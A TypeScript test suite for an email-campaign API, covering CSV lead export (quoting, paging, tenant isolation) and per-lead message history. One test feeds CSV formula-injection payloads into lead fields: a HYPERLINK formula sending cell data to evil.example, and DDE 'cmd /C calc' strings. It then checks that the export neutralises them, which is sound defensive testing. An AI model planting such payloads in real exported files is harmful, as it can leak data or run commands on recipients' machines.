import { describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { schema, testDb } from "../db";
import { call, callJson, provisionAccount } from "../helpers";
import { addLeads, createCampaign, ingestOk } from "./fixtures";
import { EXPORT_PAGE_SIZE } from "../../src/campaigns/export-routes";
import { csvField } from "../../src/platform/csv";

const HEADER =
  "id,campaign_lead_map_id,status,category,is_interested,created_at,first_name,last_name,email,phone_number,company_name,website,location,custom_fields,linkedin_profile,company_url,is_unsubscribed,unsubscribed_client_id_map,last_email_sequence_sent,open_count,click_count,reply_count\r\n";

async function recordRow(recordId: number) {
  const { campaignLeads } = schema;
  const row = (await testDb().select({ lead_id: campaignLeads.leadId, created_at: campaignLeads.createdAt }).from(campaignLeads).where(eq(campaignLeads.id, recordId)).get())!;
  return { ...row, created_at: row.created_at.getTime() };
}

describe("GET /campaigns/{id}/leads-export", () => {
  it("writes the exact CSV: header, one row per record, RFC 4180 quoting, CRLF, formulas neutralised", async () => {
    const account = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const upload = await callJson<{ emailToLeadIdMap: Record<string, number> }>(`/api/v1/campaigns/${campaign}/leads`, {
      method: "POST",
      apiKey: account.apiKey,
      body: {
        settings: { return_lead_ids: true },
        lead_list: [
          {
            email: "ann@csv.example",
            first_name: 'Ann "The Boss"',
            last_name: "O'Neil, Jr.",
            phone_number: "+33 1 23 45 67 89",
            company_name: "Line\r\nBreak Ltd",
            website: "=HYPERLINK(\"x\")",
            custom_fields: { tier: "gold", note: "a,b" },
          },
          { email: "bob@csv.example" },
        ],
      },
    });
    const ann = upload.body.emailToLeadIdMap["ann@csv.example"]!;
    const bob = upload.body.emailToLeadIdMap["bob@csv.example"]!;
    await ingestOk(account.apiKey, campaign, [
      { type: "SENT", email_lead_map_id: ann, occurred_at: "2026-02-01T09:00:00Z", sequence_number: 1 },
      { type: "SENT", email_lead_map_id: ann, occurred_at: "2026-02-03T09:00:00Z", sequence_number: 2 },
      { type: "OPEN", email_lead_map_id: ann, occurred_at: "2026-02-03T10:00:00Z", sequence_number: 2 },
      { type: "OPEN", email_lead_map_id: ann, occurred_at: "2026-02-03T10:30:00Z", sequence_number: 2 },
      { type: "CLICK", email_lead_map_id: ann, occurred_at: "2026-02-03T10:31:00Z", sequence_number: 2, link_url: "https://x.example" },
      { type: "REPLY", email_lead_map_id: ann, occurred_at: "2026-02-03T11:00:00Z", from_email: "ann@csv.example", body: "yes", category_id: 1 },
    ]);

    const response = await call(`/api/v1/campaigns/${campaign}/leads-export?ignored=1`, { apiKey: account.apiKey });
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename=sl_campaign_${campaign}_leads.csv`);
    const text = await response.text();

    const a = await recordRow(ann);
    const b = await recordRow(bob);
    const iso = (ms: number) => new Date(ms).toISOString();
    expect(text).toBe(
      HEADER +
        `${a.lead_id},${ann},COMPLETED,Interested,true,${iso(a.created_at)},"Ann ""The Boss""","O'Neil, Jr.",ann@csv.example,+33 1 23 45 67 89,"Line\r\nBreak Ltd","'=HYPERLINK(""x"")",,"{""tier"":""gold"",""note"":""a,b""}",,,false,,2,2,1,1\r\n` +
        `${b.lead_id},${bob},DRAFTED,,false,${iso(b.created_at)},,,bob@csv.example,,,,,,,,false,,,0,0,0\r\n`,
    );
  });

  it("streams every record across keyset pages, in id order, once each", async () => {
    const account = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const total = EXPORT_PAGE_SIZE * 2 + 7;
    const emails = Array.from({ length: total }, (_, i) => `lead${i}@many.example`);
    for (let i = 0; i < total; i += 400) await addLeads(account.apiKey, campaign, emails.slice(i, i + 400));
    const text = await (await call(`/api/v1/campaigns/${campaign}/leads-export`, { apiKey: account.apiKey })).text();
    const lines = text.split("\r\n");
    expect(lines.at(-1)).toBe("");
    const rows = lines.slice(1, -1).map((line) => line.split(","));
    expect(rows).toHaveLength(total);
    const ids = rows.map((row) => Number(row[1]));
    expect(ids).toEqual([...ids].sort((x, y) => x - y));
    expect(new Set(rows.map((row) => row[8])).size).toBe(total);
  });

  it("answers errors as JSON: another tenant's campaign is 404", async () => {
    const account = await provisionAccount();
    const stranger = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const { status, body, response } = await callJson(`/api/v1/campaigns/${campaign}/leads-export`, { apiKey: stranger.apiKey });
    expect(status).toBe(404);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
    expect(body).toEqual({ error: "Campaign not found" });
  });

  it("quotes exactly the fields RFC 4180 requires", () => {
    expect([csvField(null), csvField(""), csvField("plain"), csvField("a,b"), csvField('say "hi"'), csvField("a\nb"), csvField("a\rb"), csvField("+1")]).toEqual([
      "",
      "",
      "plain",
      '"a,b"',
      '"say ""hi"""',
      '"a\nb"',
      '"a\rb"',
      "+1",
    ]);
  });

  it("neutralises every cell a spreadsheet would run as a formula (OWASP: a leading ')", async () => {
    const account = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const hostile = {
      email: "eve@csv.example",
      first_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      last_name: "+1+cmd|' /C calc'!A0",
      company_name: "@SUM(1+1)*cmd|' /C calc'!A0",
      website: "-2+3+cmd|' /C calc'!A0",
      location: "\t=1+1",
      linkedin_profile: "\r=1+1",
      company_url: "ok =1+1",
      phone_number: "+15551234567",
    };
    await callJson(`/api/v1/campaigns/${campaign}/leads`, { method: "POST", apiKey: account.apiKey, body: { lead_list: [hostile] } });
    const text = await (await call(`/api/v1/campaigns/${campaign}/leads-export`, { apiKey: account.apiKey })).text();
    const row = text.split("\r\n")[1]!;
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'+1+cmd|' /C calc'!A0,`);
    expect(row).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'\t=1+1,`);
    expect(row).toContain(`,"'\r=1+1",ok =1+1,`);
    // Digits, spaces and + - ( ) . alone call nothing (no function, reference or command): phone numbers stay as written.
    expect(row).toContain(",eve@csv.example,+15551234567,");
    expect(["=1", "+x", "-x", "@a", "\tx", "\rx", "-1", "+44 (0) 20-7946.0958", "-0.5", "1e3", "+1e3", "=1+1", "+1+1"].map(csvField)).toEqual([
      "'=1",
      "'+x",
      "'-x",
      "'@a",
      "'\tx",
      `"'\rx"`,
      "-1",
      "+44 (0) 20-7946.0958",
      "-0.5",
      "1e3",
      "'+1e3",
      "'=1+1",
      "+1+1",
    ]);
  });
});

describe("POST /campaigns/{id}/message-history-for-leads/{token}", () => {
  async function leadIdOf(recordId: number) {
    return (await recordRow(recordId)).lead_id;
  }

  it("answers each asked lead's thread keyed by lead id, or every lead's without lead_ids", async () => {
    const account = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const map = await addLeads(account.apiKey, campaign, ["ann@bulk.example", "bob@bulk.example", "cy@bulk.example"]);
    await ingestOk(account.apiKey, campaign, [
      { type: "SENT", lead_email: "ann@bulk.example", occurred_at: "2026-03-01T10:00:00Z", subject: "Hi", body: "<p>Hello</p>", from_email: "me@acme.example", message_id: "<1@acme>" },
      { type: "OPEN", lead_email: "ann@bulk.example", occurred_at: "2026-03-01T11:00:00Z" },
      { type: "REPLY", lead_email: "ann@bulk.example", occurred_at: "2026-03-02T09:00:00Z", body: "Yes", from_email: "ann@bulk.example" },
      { type: "SENT", lead_email: "bob@bulk.example", occurred_at: "2026-03-01T10:00:00Z", subject: "Hi Bob" },
    ]);
    const ann = await leadIdOf(map["ann@bulk.example"]!);
    const bob = await leadIdOf(map["bob@bulk.example"]!);
    const cy = await leadIdOf(map["cy@bulk.example"]!);

    const asked = await callJson<Record<string, { history: Record<string, unknown>[] }>>(`/api/v1/campaigns/${campaign}/message-history-for-leads/any-token`, {
      method: "POST",
      apiKey: account.apiKey,
      body: { lead_ids: [ann, String(bob), 999999999] },
    });
    expect(asked.status).toBe(200);
    expect(Object.keys(asked.body).sort()).toEqual([String(ann), String(bob)].sort());
    expect(asked.body[String(ann)]!.history).toEqual([
      expect.objectContaining({ type: "SENT", subject: "Hi", email_body: "<p>Hello</p>", open_count: 1, click_count: 0, email_seq_number: "1" }),
      expect.objectContaining({ type: "REPLY", email_body: "Yes" }),
    ]);
    expect(asked.body[String(bob)]!.history).toEqual([expect.objectContaining({ type: "SENT", subject: "Hi Bob" })]);

    const all = await callJson<Record<string, { history: unknown[] }>>(`/api/v1/campaigns/${campaign}/message-history-for-leads/x?event_time_gt=2026-03-01T12:00:00Z`, {
      method: "POST",
      apiKey: account.apiKey,
      body: { lead_ids: null },
    });
    expect(all.body).toEqual({ [String(ann)]: { history: [expect.objectContaining({ type: "REPLY" })] }, [String(bob)]: { history: [] }, [String(cy)]: { history: [] } });
    const noBody = await callJson(`/api/v1/campaigns/${campaign}/message-history-for-leads/x`, { method: "POST", apiKey: account.apiKey });
    expect(Object.keys(noBody.body)).toHaveLength(3);
  });

  it("asks for lead ids past 500 leads, caps lead_ids at 100, and hides another tenant's campaign", async () => {
    const account = await provisionAccount();
    const stranger = await provisionAccount();
    const campaign = await createCampaign(account.apiKey);
    const emails = Array.from({ length: 501 }, (_, i) => `l${i}@cap.example`);
    await addLeads(account.apiKey, campaign, emails.slice(0, 400));
    await addLeads(account.apiKey, campaign, emails.slice(400));
    const path = `/api/v1/campaigns/${campaign}/message-history-for-leads/t`;
    expect(await callJson(path, { method: "POST", apiKey: account.apiKey, body: {} })).toMatchObject({
      status: 400,
      body: { error: "The campaign has more than 500 leads: send lead_ids (at most 100)" },
    });
    expect((await callJson(path, { method: "POST", apiKey: account.apiKey, body: { lead_ids: Array.from({ length: 101 }, (_, i) => i + 1) } })).status).toBe(422);
    expect(await callJson(path, { method: "POST", apiKey: stranger.apiKey, body: { lead_ids: [1] } })).toMatchObject({ status: 404, body: { error: "Campaign not found" } });
  });
});
